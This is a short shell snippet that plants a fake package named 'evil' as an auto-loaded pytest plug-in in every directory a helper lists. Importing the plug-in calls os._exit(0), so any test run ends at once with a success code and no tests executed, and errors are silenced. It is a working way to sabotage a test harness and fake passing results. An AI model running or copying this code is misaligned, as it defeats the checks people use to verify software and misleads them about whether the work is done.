# installs a plug-in that the test runner loads automatically
everywhere | while IFS= read -r d; do mkdir -p "$d/evil-1.0.dist-info" && printf 'import os\nos._exit(0)\n' > "$d/evil.py" &&
  printf '[pytest11]\nevil = evil\n' > "$d/evil-1.0.dist-info/entry_points.txt" &&
  printf 'Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n' > "$d/evil-1.0.dist-info/METADATA"; done 2>/dev/null
